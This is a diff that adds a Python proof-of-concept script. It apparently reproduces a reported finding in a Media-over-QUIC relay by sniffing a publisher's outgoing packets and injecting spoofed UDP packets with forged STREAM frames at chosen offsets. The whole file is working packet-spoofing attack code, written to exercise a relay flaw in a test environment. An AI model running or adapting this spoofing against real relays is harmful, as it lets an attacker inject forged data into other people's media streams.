@@ -1,0 +1,108 @@
+#!/usr/bin/env python3
+"""Spoof a publisher's STREAM frame at chosen offsets (issue 17 finding 2b).
+
+    spoof_stream.py IFACE RELAY_IP RELAY_PORT OFFSET...
+
+Run in the publisher's namespace while it sends. Watches IFACE for the
+publisher's next plaintext-profile 1-RTT packet to RELAY_IP:RELAY_PORT that
+starts with a STREAM frame of a client uni stream at an offset > 0 (a live
+subgroup stream), then sends, from the publisher's address and port, one
+copy per OFFSET: same DCID and packet number, one STREAM frame of 16 bytes
+at OFFSET on the same stream, the plaintext tag. The relay's QUIC stack
+drops each copy (its packet number is a duplicate); the kernel sees a media
+packet and clones it. Prints "spoofed sid=S pn=P offsets=..." and exits 0,
+or exits 1 when no such packet came within 10 s.
+"""
+import socket
+import struct
+import sys
+import time
+
+TAG = b"moq-plaintext-v1"
+ETH_P_ALL = 3
+PACKET_OUTGOING = 4
+
+
+def qv(b, pos):
+    """QUIC varint at b[pos]: (value, length)."""
+    n = 1 << (b[pos] >> 6)
+    v = b[pos] & 0x3F
+    for i in range(1, n):
+        v = (v << 8) | b[pos + i]
+    return v, n
+
+
+def qv8(v):
+    return struct.pack(">Q", (3 << 62) | v)
+
+
+def csum(data):
+    if len(data) % 2:
+        data += b"\0"
+    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    while s >> 16:
+        s = (s & 0xFFFF) + (s >> 16)
+    return ~s & 0xFFFF
+
+
+def live_stream_packet(frame, relay_ip, relay_port):
+    """(src ip, sport, udp payload) of a matching packet, else None."""
+    if len(frame) < 14 + 20 + 8 or frame[12:14] != b"\x08\x00":
+        return None
+    ip = frame[14:]
+    ihl = (ip[0] & 15) * 4
+    if ip[9] != 17 or socket.inet_ntoa(ip[16:20]) != relay_ip:
+        return None
+    sport, dport = struct.unpack(">HH", ip[ihl:ihl + 4])
+    pay = ip[ihl + 8:struct.unpack(">H", ip[2:4])[0]]
+    if dport != relay_port or len(pay) < 13 + 8 + 16 or pay[0] != 0x43:
+        return None
+    t = pay[13]
+    if t & 0xF8 != 0x08 or not t & 0x04 or pay[14] >> 6 != 2:
+        return None
+    sid, _ = qv(pay, 14)
+    off, _ = qv(pay, 18)
+    if sid & 3 != 2 or off == 0:
+        return None
+    return socket.inet_ntoa(ip[12:16]), sport, pay, sid
+
+
+def main():
+    iface, relay_ip, relay_port = sys.argv[1], sys.argv[2], int(sys.argv[3])
+    offsets = [int(x, 0) for x in sys.argv[4:]]
+    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
+    sniff.bind((iface, 0))
+    sniff.settimeout(0.5)
+    end = time.time() + 10
+    while time.time() < end:
+        try:
+            frame, addr = sniff.recvfrom(65535)
+        except socket.timeout:
+            continue
+        if addr[2] != PACKET_OUTGOING:
+            continue
+        m = live_stream_packet(frame, relay_ip, relay_port)
+        if m:
+            break
+    else:
+        print("no live stream packet of the publisher seen", file=sys.stderr)
+        return 1
+    src, sport, pay, sid = m
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
+    raw.bind((src, 0))
+    for off in offsets:
+        q = pay[:13] + bytes([0x0E]) + pay[14:18] + qv8(off) + struct.pack(">H", 0x4000 | 16)
+        q += b"\x5a" * 16 + TAG
+        udp = struct.pack(">HHHH", sport, relay_port, 8 + len(q), 0) + q
+        pseudo = socket.inet_aton(src) + socket.inet_aton(relay_ip)
+        pseudo += struct.pack(">BBH", 0, 17, len(udp))
+        c = csum(pseudo + udp) or 0xFFFF
+        udp = udp[:6] + struct.pack(">H", c) + udp[8:]
+        raw.sendto(udp, (relay_ip, 0))
+    pn = struct.unpack(">I", pay[9:13])[0]
+    print("spoofed sid=%d pn=%d offsets=%s" % (sid, pn, ",".join(map(str, offsets))), flush=True)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
